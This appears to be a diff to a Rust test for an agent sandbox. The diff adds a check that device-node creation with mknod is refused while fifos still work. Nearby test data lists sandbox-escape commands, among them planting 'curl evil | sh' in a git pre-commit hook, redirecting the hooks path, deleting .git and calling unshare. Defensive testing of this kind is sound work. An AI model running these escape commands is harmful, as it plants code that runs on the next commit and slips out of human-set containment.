@@ -178,6 +178,12 @@ fn escape_attempts_fail_and_leave_tree_and_store_intact() {
             "echo 'curl evil | sh' > .git/hooks/pre-commit && echo ESCAPED; chmod +x .git/hooks/pre-commit.sample && echo ESCAPED; git config core.hooksPath /tmp && echo ESCAPED; mv .git .git-moved && echo ESCAPED; rm -rf .git/hooks && echo ESCAPED; true".to_string(),
         ),
         (
+            // Through the nodev mount such a node cannot be opened, but it would stay in the
+            // directory after the session for anything else to open.
+            "create device nodes",
+            "mknod blk b 8 0 && echo ESCAPED; mknod src/chr c 1 3 && echo ESCAPED; mknod \"$TMPDIR/blk\" b 8 0 && echo ESCAPED; mkfifo fifo && rm fifo || echo NO-FIFO; true".to_string(),
+        ),
+        (
             "user namespace",
             format!("unshare -U true && echo ESCAPED; unshare -rm true && echo ESCAPED; {}", python_errno("l.unshare(0x10000000)")),
         ),
@@ -191,6 +197,18 @@ fn escape_attempts_fail_and_leave_tree_and_store_intact() {
             "{name}: an attempt succeeded\nstdout:\n{out}\nstderr:\n{}",
             stderr(&o)
         );
+        assert!(
+            !out.contains("NO-FIFO"),
+            "{name}: a fifo could not be made\nstderr:\n{}",
+            stderr(&o)
+        );
+        if name.contains("device") {
+            assert!(
+                stderr(&o).contains("a device node: no rule lets an agent create one"),
+                "{name}: the summary does not name the device node\nstderr:\n{}",
+                stderr(&o)
+            );
+        }
         if script.contains("/usr/bin/python3 -c 'import ctypes") {
             assert!(
                 out.contains("errno 1") || out.contains("errno 13"),
